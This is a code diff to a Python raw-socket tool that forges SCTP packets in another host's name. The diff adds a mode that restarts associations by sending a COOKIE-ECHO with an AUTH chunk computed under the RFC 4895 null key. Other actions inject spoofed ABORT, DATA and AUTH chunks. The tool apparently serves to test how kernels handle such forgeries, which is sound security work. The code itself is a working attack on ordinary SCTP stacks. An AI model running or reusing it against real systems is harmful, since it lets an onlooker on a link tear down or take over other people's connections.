@@ -36,6 +36,13 @@ so the bytes are built here) or DATA.
          (watched for at most 3 s), the COOKIE-ECHO with DST's cookie and
          no AUTH: to DST's kernel, SRC restarted, unless it requires AUTH
          of COOKIE-ECHO (RFC 4895), which nobody on the link can compute.
+  restart0  the same, the INIT offering SCTP-AUTH (RANDOM, CHUNKS, HMAC-ALGO
+         with SHA-1) and the COOKIE-ECHO carrying an AUTH under the
+         well-known null key 0: the association's key from the null key
+         and the parameters both INITs carried in clear (RFC 4895 6.1),
+         which a kernel still holding key 0 for the association checks it
+         with (offered_auth=0: the INIT-ACK offered no SCTP-AUTH, and the
+         AUTH is made from the INIT's parameters alone).
   auth   one packet of an AUTH chunk whose HMAC is zeroes (key 1, HMAC
          --hmac-id, default 3 for SHA-256) and a HEARTBEAT behind it: both
          are dropped, the HMAC being wrong, but the receiver has read the
@@ -54,6 +61,8 @@ key=value ..."); exits 1 when it saw no user data to learn from.
 Needs /usr/bin/python3 with scapy (python3-scapy).
 """
 import argparse
+import hashlib
+import hmac
 import os
 import socket
 import struct
@@ -72,6 +81,8 @@ CID_INIT = 1
 CID_INIT_ACK = 2
 CID_COOKIE_ECHO = 10
 PARAM_STATE_COOKIE = 7
+PARAM_RANDOM, PARAM_CHUNKS, PARAM_HMAC_ALGO, PARAM_EXT = 0x8002, 0x8003, 0x8004, 0x8008
+HMAC_SHA1 = 1
 CID_HEARTBEAT = 4
 CID_ABORT = 6
 CID_ERROR = 9
@@ -186,8 +197,8 @@ def send(w, o, chunks):
 
 
 def init_ack_cookie(frame, src, dst, sport, dport, tag):
-    """(initiate tag, state cookie) of an INIT-ACK from dst to src for the
-    INIT that carried `tag`, or None."""
+    """(initiate tag, state cookie, {param type: its TLV}) of an INIT-ACK
+    from dst to src for the INIT that carried `tag`, or None."""
     if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
         return None
     ip = frame[14:]
@@ -201,26 +212,62 @@ def init_ack_cookie(frame, src, dst, sport, dport, tag):
     if ctype != CID_INIT_ACK:
         return None
     itag = struct.unpack(">I", sctp[16:20])[0]
-    off, end = 12 + 20, min(len(sctp), 12 + clen)
+    off, end, params = 12 + 20, min(len(sctp), 12 + clen), {}
     while off + 4 <= end:
         ptype, plen = struct.unpack(">HH", sctp[off : off + 4])
         if plen < 4:
             break
-        if ptype == PARAM_STATE_COOKIE:
-            return itag, sctp[off + 4 : off + plen]
+        params[ptype] = sctp[off : off + plen]
         off += (plen + 3) & ~3
-    return None
+    if PARAM_STATE_COOKIE not in params:
+        return None
+    return itag, params[PARAM_STATE_COOKIE][4:], params
 
 
-def restart(w, o, src, dst):
-    """INIT in src's name, then the COOKIE-ECHO of dst's INIT-ACK."""
+def param(ptype, value):
+    """A parameter's TLV (unpadded, as a key vector holds it)."""
+    return struct.pack(">HH", ptype, 4 + len(value)) + value
+
+
+def padded(b):
+    return b + b"\0" * (-len(b) % 4)
+
+
+def null_key_auth(mine, theirs, cookie_echo):
+    """An AUTH chunk (key 0, HMAC-SHA-1) for cookie_echo, under the key RFC
+    4895 6.1 gives the association with the null endpoint key: the smaller
+    key vector (RANDOM || CHUNKS || HMAC-ALGO) first, compared as numbers
+    as Linux does (sctp_auth_compare_vectors)."""
+    def vector(p):
+        return b"".join(p.get(t, b"") for t in (PARAM_RANDOM, PARAM_CHUNKS, PARAM_HMAC_ALGO))
+    local, peer = vector(theirs), vector(mine)
+    diff = len(local) - len(peer)
+    longer = local if diff > 0 else peer
+    cmp = diff if diff and any(longer[: abs(diff)]) else (local > peer) - (local < peer)
+    key = local + peer if cmp < 0 else peer + local
+    head = struct.pack(">BBHHH", CID_AUTH, 0, 8 + 20, 0, HMAC_SHA1)
+    mac = hmac.new(key, head + bytes(20) + cookie_echo, hashlib.sha1).digest()
+    return head + mac
+
+
+def restart(w, o, src, dst, null_auth=False):
+    """INIT in src's name, then the COOKIE-ECHO of dst's INIT-ACK (with
+    null_auth, both offering SCTP-AUTH under the null key)."""
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     s.bind((o.iface, 0))
     tag = struct.unpack(">I", os.urandom(4))[0] | 1
     tsn = struct.unpack(">I", os.urandom(4))[0]
+    mine = {}
+    if null_auth:
+        mine = {PARAM_RANDOM: param(PARAM_RANDOM, os.urandom(32)),
+                PARAM_CHUNKS: param(PARAM_CHUNKS, bytes([CID_DATA])),
+                PARAM_HMAC_ALGO: param(PARAM_HMAC_ALGO, struct.pack(">H", HMAC_SHA1))}
+    params = b"".join(padded(p) for p in
+                      [param(PARAM_EXT, bytes([CID_AUTH]))] * null_auth + list(mine.values()))
     # type, flags, length | initiate tag | a_rwnd | streams out, in | TSN
     w.tag = 0
-    send(w, o, struct.pack(">BBHIIHHI", CID_INIT, 0, 20, tag, 1 << 20, 16, 16, tsn))
+    send(w, o, struct.pack(">BBHIIHHI", CID_INIT, 0, 20 + len(params), tag, 1 << 20, 16, 16,
+                           tsn) + params)
     deadline, found = time.monotonic() + 3, None
     try:
         while not found and time.monotonic() < deadline:
@@ -234,10 +281,14 @@ def restart(w, o, src, dst):
         s.close()
     if not found:
         return None
-    w.tag, cookie = found
-    chunk = struct.pack(">BBH", CID_COOKIE_ECHO, 0, 4 + len(cookie)) + cookie
-    send(w, o, chunk + b"\0" * (-len(chunk) % 4))
-    return len(cookie)
+    w.tag, cookie, theirs = found
+    chunk = padded(struct.pack(">BBH", CID_COOKIE_ECHO, 0, 4 + len(cookie)) + cookie)
+    if null_auth:
+        # An INIT-ACK that offers no SCTP-AUTH leaves the forger its own
+        # key vector alone: the AUTH is sent all the same.
+        chunk = null_key_auth(mine, theirs, chunk) + chunk
+    send(w, o, chunk)
+    return len(cookie), PARAM_RANDOM in theirs
 
 
 def bad_auth(hmac_id):
@@ -261,12 +312,12 @@ def act(o, what, src, dst):
         send(w, o, bad_auth(o.hmac_id))
         print(f"auth: sent=1 udp_sport={o.udp_sport or w.udp_sport} {seen}", flush=True)
         return True
-    if what == "restart":
-        n = restart(w, o, src, dst)
-        if n is None:
-            print(f"restart: no INIT-ACK came back; {seen}", flush=True)
+    if what in ("restart", "restart0"):
+        r = restart(w, o, src, dst, what == "restart0")
+        if r is None:
+            print(f"{what}: no INIT-ACK came back; {seen}", flush=True)
             return False
-        print(f"restart: sent=1 cookie_bytes={n} {seen}", flush=True)
+        print(f"{what}: sent=1 cookie_bytes={r[0]} offered_auth={int(r[1])} {seen}", flush=True)
         return True
     if what == "abort":
         send(w, o, struct.pack(">BBH", CID_ABORT, 0, 4))
@@ -297,7 +348,8 @@ def act(o, what, src, dst):
 
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn", "auth", "error", "restart"])
+    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn", "auth", "error", "restart",
+                                           "restart0"])
     p.add_argument("--iface", required=True)
     p.add_argument("--src", required=True)
     p.add_argument("--dst", required=True)
